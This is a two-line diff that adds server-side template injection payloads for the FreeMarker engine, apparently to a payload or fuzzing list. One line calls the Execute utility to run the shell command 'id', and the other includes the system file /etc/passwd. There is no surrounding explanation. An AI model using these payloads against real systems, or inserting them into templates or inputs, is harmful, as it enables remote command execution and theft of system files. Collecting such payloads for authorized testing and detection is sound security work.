@@ -1,0 +1,2 @@
+echo [="freemarker.template.utility.Execute"?new()("id")]
+[#include "/etc/passwd"]
